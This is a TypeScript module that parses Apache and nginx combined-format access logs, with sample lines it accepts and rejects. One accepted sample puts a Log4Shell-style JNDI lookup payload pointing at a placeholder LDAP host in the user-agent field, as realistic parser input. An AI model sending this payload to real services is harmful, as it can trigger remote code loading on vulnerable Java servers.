import { readTime } from '../time/read-time.ts'
import type { LogFormat } from './format.ts'

/**
 * The access log of Apache and nginx: `host ident user [time] "request" status bytes`, and, as most have it, `"referer"
 * "user agent"` and more quoted fields. A virtual host may come first.
 */
export const combined: LogFormat = {
  id: 'combined',
  summary: 'access logs of Apache and nginx, common and combined, with a virtual host or further fields',
  definedBy: 'https://httpd.apache.org/docs/2.4/logs.html#combined',
  examples: {
    reads: [
      '203.0.113.83 - - [12/Dec/2021:04:25:41 +0000] "GET / HTTP/1.1" 200 612 "-" "${jndi:ldap://x.example/a}"',
      '2001:db8::1 - alice [12/Dec/2021:04:25:41 +0000] "GET /?q=1 HTTP/2.0" 404 -',
      'www.example:443 203.0.113.83 - - [12/Dec/2021:04:25:41 +0000] "GET / HTTP/1.1" 200 612 "-" "curl/7.79"',
    ],
    refuses: ['GET / HTTP/1.1', '203.0.113.83 - - "GET / HTTP/1.1" 200 612'],
  },
  read(text, { around }) {
    const head = /^(?:\S{1,300} )?(\S{1,300}) \S{1,300} (\S{1,2000}) \[([^\]]{10,40})\] "/.exec(text)
    if (head === null) return null
    const [whole, from = '', user = '', time = ''] = head
    const quoted = quotedFrom(text, whole.length - 1)
    const [request = '', ...others] = quoted
    const referer = others[0] ?? null
    const userAgent = others[1] ?? null
    const names = ['request', 'referer', 'user agent']
    return {
      when: readTime(time, around),
      from,
      request: /^(\S{1,20} [^\s]*)/.exec(request)?.[1] ?? (request === '' ? null : request),
      userAgent: userAgent === '-' ? null : userAgent,
      fields: [
        { name: 'user', value: user },
        ...quoted.map((value, index) => ({ name: names[index] ?? null, value })),
        // Where a quote was written as it is, pieces stand outside of any field.
        ...(referer === null && text.length > whole.length + request.length + 40 ? [{ name: null, value: text }] : []),
      ],
    }
  },
}

/** Fields in quotes from `start` on, escapes as written; the last one may not be closed. */
function quotedFrom(text: string, start: number): readonly string[] {
  const fields: string[] = []
  for (let at = start; at >= 0 && fields.length < mostFields; at = text.indexOf('"', at)) {
    const end = closingQuote(text, at + 1)
    fields.push(text.slice(at + 1, end))
    at = end + 1
  }
  return fields
}

const mostFields = 64

/** A quote behind a backslash is part of the field; a quote within it that no blank follows is taken for part of it too. */
function closingQuote(text: string, from: number): number {
  for (let at = from; at < text.length; at++) {
    const code = text.charCodeAt(at)
    if (code === 0x5c) at++
    else if (code === 0x22 && (at + 1 >= text.length || text.charCodeAt(at + 1) <= 0x20)) return at
  }
  return text.length
}
